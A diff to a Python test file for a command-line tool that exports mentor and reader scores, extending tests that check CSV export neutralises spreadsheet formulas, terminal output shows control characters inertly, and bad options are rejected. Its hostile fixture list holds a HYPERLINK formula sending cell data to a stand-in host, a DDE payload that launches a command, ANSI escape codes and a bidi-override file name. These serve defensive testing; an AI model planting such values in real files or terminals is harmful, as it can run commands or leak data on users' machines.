@@ -176,7 +176,7 @@ def one_line_error(err: str) -> str:
 
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
-           "\tx", "\x1b[2J\x1b]0;pwned\x07evil"]
+           "\tx", "\rx", "\x1b[2J\x1b]0;pwned\x07evil", "\u202eevil.exe"]
 
 
 @pytest.fixture
@@ -189,12 +189,12 @@ def hostile_warehouse(warehouse_path):
 
 
 def test_csv_output_escapes_cells_a_spreadsheet_would_run(hostile_warehouse, capsys):
-    # "reader" talks with all six, so it is the mentor side: its regulars are the hostile ids
+    # "reader" talks with all of them, so it is the mentor side: its regulars are the hostile ids
     for command, column in ((["export", "pair_scores"], "author_id"), (["query", "regulars", "--author", "reader"], "reader_id")):
         assert main([*command, "--format", "csv", "--warehouse", hostile_warehouse]) == 0
         rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
         authors = {r[column] for r in rows if r[column] not in ("a", "r")}
-        assert authors == {"'" + a if a[0] in "=+-@\t" else a for a in HOSTILE}
+        assert authors == {"'" + a if a[0] in "=+-@\t\r" else a for a in HOSTILE}
     assert main(["export", "pair_scores", "--format", "csv", "--warehouse", hostile_warehouse]) == 0
     numbers = [r["mentor_score"] for r in csv.DictReader(io.StringIO(capsys.readouterr().out)) if r["author_id"] == "a"]
     assert numbers == ["-0.25"]  # numbers stay numbers
@@ -204,6 +204,7 @@ def test_the_table_shows_control_characters_instead_of_sending_them(hostile_ware
     assert main(["query", "regulars", "--author", "reader", "--warehouse", hostile_warehouse]) == 0
     out = capsys.readouterr().out
     assert "\x1b" not in out and "\x07" not in out and "\\x1b[2J\\x1b]0;pwned\\x07evil" in out
+    assert "\u202e" not in out and "\\u202eevil.exe" in out  # a bidi override would show "exe.live"
 
 
 def test_bound_sql_parameters_find_nothing_and_break_nothing(hostile_warehouse, capsys):
@@ -222,6 +223,11 @@ def test_bound_sql_parameters_find_nothing_and_break_nothing(hostile_warehouse, 
     (["query", "mentors", "--reader", "r", "--top", "0"], "must be 1 or more"),
     (["run", "--input", "x", "--comment-saturation", "nan"], "not a finite number"),
     (["run", "--input", "x", "--speed-weight", "2"], "between 0 and 1"),
+    (["run", "--input", "x", "--speed-weight", "-0.5"], "between 0 and 1"),
+    (["run", "--input", "x", "--speed-weight", "nan"], "not a finite number"),
+    (["run", "--input", "x", "--comment-saturation", "0"], "must be above 0"),
+    (["run", "--input", "x", "--comment-saturation", "-3"], "must be above 0"),
+    (["query", "mentors", "--reader", "r", "--half-life-days", "-1"], "must be above 0"),
     (["generate", "--out", "x", "--invalid-rate", "-0.1"], "between 0 and 1"),
     (["import", "reddit", "x", "--to", "jsonl:y", "--max-line-bytes", "0"], "must be 1 or more"),
 ])
